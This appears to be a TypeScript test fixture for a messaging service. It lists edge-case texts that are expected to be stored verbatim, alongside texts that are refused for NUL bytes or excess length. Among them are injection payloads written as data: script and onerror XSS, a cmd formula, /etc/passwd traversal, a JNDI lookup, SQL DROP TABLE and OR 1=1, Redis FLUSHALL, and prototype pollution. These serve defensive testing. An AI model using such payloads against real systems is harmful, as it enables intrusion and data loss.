const marks = String.fromCodePoint(...Array.from({ length: 64 }, (_, at) => 0x300 + at))

const codes = (from: number, to: number): string =>
  String.fromCharCode(...Array.from({ length: to - from + 1 }, (_, at) => from + at))

/** Every control character but NUL. */
const CONTROLS = codes(1, 0x1f) + codes(0x7f, 0x9f)

/** Texts that are stored and come back as they were sent. */
export const AS_SENT: readonly (readonly [title: string, text: string])[] = [
  ['93: a blank', ' '],
  ['93: white space of all kinds', ' \t\u00a0\u1680\u2003\u2028\u2029\u202f\u3000'],
  ['95: every control character but NUL', `${CONTROLS}.`],
  ['95: a lone \\r', 'a\rb'],
  ['95: line breaks inside', 'a\nb\r\nc\n\nd'],
  ['97: overrides of direction', '\u202eevil\u202c \u2066a\u2067b\u2068c\u2069 \u200e\u200f'],
  ['98: nothing visible', '\u200b\u200c\u200d\ufeff\u2060\u00ad\u180e'],
  ['98: a family', '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}'],
  ['98: Hangul fillers and Braille blanks', '\u3164\u115f\uffa0\u2800'],
  ['99: marks upon marks', `Z${marks.repeat(8)}algo`],
  ['99: marks upon nothing', marks],
  ['100: noncharacters', '\ufffe\uffff\ufdd0\u{1fffe}\u{10ffff}'],
  ['100: private use', '\ue000\uf8ff\u{f0000}\u{10fffd}'],
  ['100: emoji, flags, tags', '😀🏽 🇺🇳 🏴\u{e0067}\u{e0062}\u{e007f}'],
  ['100: composed and decomposed', 'é e\u0301 ﬁ ① K K Å Å'],
  ['100: the replacement character', '\ufffd\ufffd'],
  ['100: the longest character', '﷽𒐫\u{12031}'],
  ['101: 16,384 bytes of four each', '𝄞'.repeat(4096)],
  ['101: 16,384 bytes of three each, and one', `${'€'.repeat(5461)}x`],
  ['102: a script', '<script>alert(1)</script>'],
  ['102: an image', '"><img src=x onerror=alert(1)>'],
  ['102: a link', 'javascript:alert(1)'],
  ['102: a template', '${7*7} {{7*7}} <%= 7*7 %> #{7*7}'],
  ['102: an escape of a terminal', '\u001b[2J\u001b]0;title\u0007\u001b[31m'],
  ['102: a formula', "=cmd|' /C calc'!A0"],
  ['102: the end of a comment and of data', '--> ]]> */ </script>'],
  ['102: formats', '%s %n %x %p {0} %00 \\u0000 \\x00 &#0; &lt;'],
  ['102: a file', '../../../../etc/passwd'],
  ['102: a naming service', '${jndi:ldap://elsewhere.example/a}'],
  ['102: SQL', "'; DROP TABLE messages; --"],
  ['102: SQL with a comment', "x' /* */ OR 1=1 --"],
  ['102: SQL with dollars', '$$ $1 $tag$ :name ? @p'],
  ['102: escapes of Postgres', "E'\\x00' \\\\ \\' \\. \\N \\000 U&'\\0000'"],
  ['102: an array of Postgres', '{a,"b",NULL,{c}}'],
  ['102: NULL', 'NULL'],
  ['102: NULL in quotes', '"NULL"'],
  ['102: quotes and commas', '",",\'"\\",{}()'],
  ['102: a backslash at the end', 'the end \\'],
  ['102: a record of Postgres', '(1,"a,b",)'],
  ['102: a command of Redis', '*1\r\n$8\r\nFLUSHALL\r\nx'],
  ['102: a frame of the queue', '\u0001\u0002'.repeat(20)],
  ['103: half a JSON', '{"command":'],
  ['103: deep JSON', '['.repeat(8000)],
  ['103: a large number', '1e400'],
  ['103: null', 'null'],
  ['105: an owned message', '{"type":"left","memberId":"x","sent":"1970-01-01","seq":1}'],
  ['105: a prototype', '{"__proto__":{"type":"left"}}'],
  ['106: a command', '{"command":"leave","roomId":"x"}'],
  ['106: an event', '{"event":"message","seq":1}'],
  ['106: a line of JSON and more', '{"type":"chat"}\n{"type":"left"}'],
  ['106: a slash command', '/nick admin'],
]

/** Texts that only their sender hears of, as `failed`. */
export const REFUSED: readonly (readonly [title: string, text: string])[] = [
  ['94: NUL', '\0'],
  ['94: NUL inside', 'before\0behind'],
  ['94: NUL and a line break', 'before\0\n'],
  ['94: many NULs', '\0'.repeat(1000)],
  ['101: 16,385 bytes', 'x'.repeat(16_385)],
  ['101: 16,385 bytes of four each, and one', `${'𝄞'.repeat(4096)}x`],
  ['101: 16,386 bytes of three each', '€'.repeat(5462)],
  ['101: 65,536 bytes', 'x'.repeat(65_536)],
  ['101: NUL in what is too long', `\0${'x'.repeat(20_000)}`],
]
